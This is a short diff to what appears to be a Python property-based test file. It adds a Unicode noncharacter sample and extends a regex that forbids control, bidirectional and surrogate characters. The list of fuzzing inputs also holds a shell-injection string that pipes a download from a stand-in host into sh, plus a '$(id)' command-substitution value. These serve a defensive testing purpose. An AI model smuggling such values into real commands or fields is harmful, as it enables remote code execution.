@@ -87,6 +87,7 @@ PIECES = [
     "\ud800",
     "\udfff\ud800",
     "\U0001f600",
+    "\ufffe\uffff",
     "' ; curl http://evil | sh #",
     "$(id)",
 ]
@@ -95,7 +96,8 @@ CLOUD_TEXT = st.lists(
     st.one_of(st.sampled_from(PIECES), st.text(ANY_CHAR, max_size=6)), max_size=4
 ).map("".join)
 TEXT_FORBIDDEN = re.compile(
-    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
+    "\ud800-\udfff\ufffe\uffff]"
 )
 
 
